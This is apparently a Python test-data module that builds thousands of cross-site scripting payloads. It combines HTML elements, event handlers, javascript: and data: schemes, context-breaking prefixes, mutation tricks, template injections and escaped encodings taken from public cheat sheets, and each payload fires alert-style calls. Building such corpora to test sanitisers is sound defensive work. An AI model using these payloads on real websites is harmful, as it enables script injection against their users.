"""Thousands of texts that have run scripts in pages, by the classes of the published lists.

Sources of the classes: OWASP XSS Filter Evasion Cheat Sheet, PortSwigger XSS cheat sheet (events by
element, consuming elements, protocols, restricted characters, frameworks), html5sec.org, and what
was found in sanitisers of Markdown and HTML (mutation, namespaces, comments). Every text calls
`alert`, `print`, `confirm` or `prompt`, so that a browser tells when one has run.
"""

import html
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

ELEMENTS = [
    "a",
    "abbr",
    "acronym",
    "address",
    "applet",
    "area",
    "article",
    "aside",
    "audio",
    "b",
    "base",
    "basefont",
    "bdo",
    "bgsound",
    "big",
    "blink",
    "blockquote",
    "body",
    "br",
    "button",
    "canvas",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "command",
    "content",
    "data",
    "datalist",
    "dd",
    "del",
    "details",
    "dfn",
    "dialog",
    "div",
    "dl",
    "dt",
    "element",
    "em",
    "embed",
    "fieldset",
    "figure",
    "font",
    "footer",
    "form",
    "frame",
    "frameset",
    "h1",
    "head",
    "header",
    "hr",
    "html",
    "i",
    "iframe",
    "iframe2",
    "image",
    "img",
    "input",
    "ins",
    "kbd",
    "keygen",
    "label",
    "legend",
    "li",
    "link",
    "main",
    "map",
    "mark",
    "marquee",
    "menu",
    "menuitem",
    "meta",
    "meter",
    "multicol",
    "nav",
    "nobr",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "ol",
    "optgroup",
    "option",
    "output",
    "p",
    "param",
    "picture",
    "plaintext",
    "pre",
    "progress",
    "q",
    "rb",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "select",
    "shadow",
    "slot",
    "small",
    "source",
    "spacer",
    "span",
    "strike",
    "strong",
    "style",
    "sub",
    "summary",
    "sup",
    "svg",
    "table",
    "tbody",
    "td",
    "template",
    "textarea",
    "tfoot",
    "th",
    "thead",
    "time",
    "title",
    "tr",
    "track",
    "tt",
    "u",
    "ul",
    "var",
    "video",
    "wbr",
    "x",
    "xmp",
    "xss",
]
EVENTS = [
    "onafterprint",
    "onanimationend",
    "onanimationstart",
    "onauxclick",
    "onbeforeinput",
    "onbeforematch",
    "onbeforeprint",
    "onbeforetoggle",
    "onbeforeunload",
    "onbegin",
    "onblur",
    "oncanplay",
    "onchange",
    "onclick",
    "onclose",
    "oncontextmenu",
    "oncopy",
    "oncuechange",
    "oncut",
    "ondblclick",
    "ondrag",
    "ondrop",
    "onend",
    "onended",
    "onerror",
    "onfocus",
    "onfocusin",
    "onformdata",
    "onfullscreenchange",
    "ongotpointercapture",
    "onhashchange",
    "oninput",
    "oninvalid",
    "onkeydown",
    "onload",
    "onloadeddata",
    "onloadstart",
    "onmessage",
    "onmousedown",
    "onmouseenter",
    "onmouseover",
    "onpageshow",
    "onpaste",
    "onplay",
    "onpointerenter",
    "onpointerover",
    "onpopstate",
    "onprogress",
    "onrepeat",
    "onreset",
    "onresize",
    "onscroll",
    "onscrollend",
    "onsearch",
    "onseeking",
    "onselect",
    "onselectionchange",
    "onshow",
    "onstart",
    "onsubmit",
    "onsuspend",
    "ontimeupdate",
    "ontoggle",
    "ontouchstart",
    "ontransitionend",
    "onunhandledrejection",
    "onunload",
    "onvolumechange",
    "onwebkitanimationend",
    "onwheel",
]
CALLS = ("alert(1)", "print()", "confirm`1`", "prompt(document.domain)")
SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "javascript&colon;{}", "javascript&#58;{}", "java&#115;cript:{}",
    "&#x6A;avascript:{}", "&#0000106avascript:{}", " javascript:{}", "javascript :{}", "java&Tab;script:{}",
    "java&NewLine;script:{}", "\u00a0javascript:{}", "javascript:/*--></title>*/{}", "javascript://%0a{}",
    "vbscript:{}", "livescript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4",
    "data:image/svg+xml,<svg onload={}>", "feed:javascript:{}", "view-source:javascript:{}", "jar:javascript:{}",
    "javascript%3A{}", "%6Aavascript:{}", "x:{}", "blob:{}", "filesystem:{}", "//e.org/{}", "\\\\e.org\\{}", "mhtml:x!{}",
)  # fmt: skip
LEADING = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<iframe src="{}">', '<form action="{}"><button>x',
    '<button formaction="{}">x', '<object data="{}">', '<embed src="{}">', '<svg><a xlink:href="{}"><text>x',
    '<math href="{}">x', '<base href="{}//">', '<meta http-equiv=refresh content="0;url={}">', '<img src="{}">',
    '<video poster="{}">', '<link rel=stylesheet href="{}">', "[x]({})", "[x](<{}>)", "![x]({})", "[x]: {}", "<{}>",
    '[x](https://e.org "\' onclick={} ")', "[{}][x]", "<area href={}>", '<use href="{}#x">', '<svg><animate to="{}">',
)  # fmt: skip
BREAKING = (
    "{}", '">{}', "'>{}", "`>{}", "-->{}", "]]>{}", "</title>{}", "</textarea>{}", "</style>{}", "</script>{}",
    "</noscript>{}", "</template>{}", "</select>{}", "</xmp>{}", "</iframe>{}", "</svg>{}", "</math>{}", "?>{}", "*/{}",
    '"/>{}', '\\">{}', "&quot;>{}", "%22>{}", "</pre>{}", "</code>{}", "\n\n{}", "```\n{}", "~~~\n{}", "`{}", "    {}",
    "> {}", "- {}", "# {}", "| {} |", "[^1]: {}", "<!--{}", "<!{}", "<![CDATA[{}", "<?{}", "</div></div></div>{}",
    "{{: #x onclick=1 }}{}", "!!! note\n    {}", "::: x {}", "--8<-- {}", "$${}$$", "==={}===", "{{{{{}}}}}", "{{% {} %}}",
)  # fmt: skip
SCRIPTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<script >{}</script >", "<<script>{}//<</script>",
    "<script src=data:,{}></script>", "<script\n>{}</script\n>", "<script>{}", "<svg><script>{}</script>",
    "<svg><script>&#97;lert(1)</script><!--{}-->", "<math><script>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<img src=x onerror\n=\n{}>", '<img """><script>{}</script>">',
    "<svg onload={}>", "<svg/onload={}//", "<svg><animate onbegin={}>", "<body onload={}>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe onload={}>", "<xss style=animation-name:x onanimationstart={}>",
    "<style>*{{background:url(javascript:{})}}</style>", "<div style=width:expression({})>", "<link rel=import href=data:,{}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<math><mtext><table><mglyph><style><img src onerror={}>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<template><script>{}</script></template>", "<object data=data:text/html,<script>{}</script>>", "<marquee onstart={}>", "<isindex action=javascript:{}>",
    "<a href=# onclick={}>x</a>", "<p onmouseover={}>x", "<button popovertarget=x onbeforetoggle={}>", "<video><source onerror={}>",
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{{{[].map.constructor('{}')()}}}}", "@({})",
)  # fmt: skip


def by_event() -> Iterator[str]:
    """Every element with events, their values quoted in turn in each way."""
    shapes = ("<{} {}={}>x", "<{} {}='{}'>x", '<{} {}="{}">x', "<{}/{}={}//", "<{} x=y {}\n={} z>")
    for number, (element, event) in enumerate(product(ELEMENTS, EVENTS)):
        if number % 3 == 0:  # a third of all pairs, each element and each event among them
            yield shapes[number % 5].format(element, event, CALLS[number % 4])


def by_address() -> Iterator[str]:
    """Everything that leads somewhere, with every scheme that leads to a script."""
    for number, (leading, scheme) in enumerate(product(LEADING, SCHEMES)):
        yield leading.format(scheme.format(CALLS[number % 4]))


def by_context() -> Iterator[str]:
    """Scripts behind whatever ends the place where they stand."""
    for number, (breaking, script) in enumerate(product(BREAKING, SCRIPTS)):
        yield breaking.format(script.format(CALLS[number % 4]))


def by_code() -> Iterator[str]:
    """Scripts written as codes that something may undo."""
    for number, script in enumerate(SCRIPTS):
        text = script.format(CALLS[number % 4])
        yield from (
            html.escape(text),
            html.escape(html.escape(text)),
            quote(text),
            quote(quote(text)),
        )
        yield "".join(f"&#{ord(c)};" for c in text)
        yield "".join(f"&#x{ord(c):x}" for c in text)
        yield "".join(f"\\u{ord(c):04x}" for c in text)
        yield "".join(f"\\x{ord(c):02x}" for c in text)
        yield text.replace("<", "\uff1c").replace(">", "\uff1e")
        yield text.replace("<", "\u2039").replace("'", "\u02bc")


PAYLOADS = tuple(dict.fromkeys((*by_context(), *by_address(), *by_code(), *by_event())))


def sample(step: int) -> tuple[str, ...]:
    """Every so many of them, from all classes."""
    return PAYLOADS[::step]
